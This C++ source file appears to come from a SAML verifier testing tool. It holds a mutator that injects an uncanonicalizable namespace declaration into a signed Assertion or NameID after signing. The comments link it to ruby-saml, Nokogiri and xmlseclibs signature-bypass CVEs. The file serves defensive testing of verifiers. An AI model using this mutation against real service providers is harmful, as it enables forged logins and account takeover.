// SPDX-License-Identifier: Apache-2.0
// c14n.namespace_unprocessable — a namespace declaration libxml2's canonicalizer refuses, added to
// the signed Assertion after signing (attack-catalogue C14N-VOID: CVE-2025-66568 ruby-saml,
// GHSA-wx95-c6cv-8532 Nokogiri, CVE-2025-66475 xmlseclibs). xml-c14n §2.4 (relative namespace
// URIs make canonicalization fail) and xmldsig-core §3.2.1: a Reference that cannot be
// canonicalized cannot validate. A verifier that turns the failure into "" and digests nothing
// accepts whatever it was given; the declaration is unused, so a verifier that skipped the check
// would see an unchanged canonical form.
#include "mutators/c14n/c14n.hpp"
#include "mutators/mutators.hpp"

namespace samlt::idp::mutators {

// Params: uri (relative: "rel" | no_authority: "mailto:x@y" | invalid: "http://example.com"
// followed by U+0080, default relative), on (assertion | name_id, default assertion). The
// declaration binds prefix `v` and nothing uses it.
core::Result<void> c14n_namespace_unprocessable(Target& target) {
  auto uri = string_param(target, "uri");
  auto on = string_param(target, "on");
  if (!uri || !on) {
    return core::fail(!uri ? uri.error() : on.error());
  }
  std::string kind = uri->value_or("relative");
  std::string value = kind == "relative"       ? "rel"
                      : kind == "no_authority" ? "mailto:x@y"
                      : kind == "invalid"      ? "http://example.com\xC2\x80"
                                               : "";
  if (value.empty()) {
    return core::fail(core::Reason::mutator_params_invalid, "/uri: expected relative, no_authority or invalid");
  }
  std::string where = on->value_or("assertion");
  if (where != "assertion" && where != "name_id") {
    return core::fail(core::Reason::mutator_params_invalid, "/on: expected assertion or name_id");
  }
  xmlNode* element = first_in_assertion(target, where == "assertion" ? "Assertion" : "NameID");
  if (element == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "no " + where);
  }
  xmlNewNs(element, BAD_CAST value.c_str(), BAD_CAST "v");
  return {};
}

}  // namespace samlt::idp::mutators
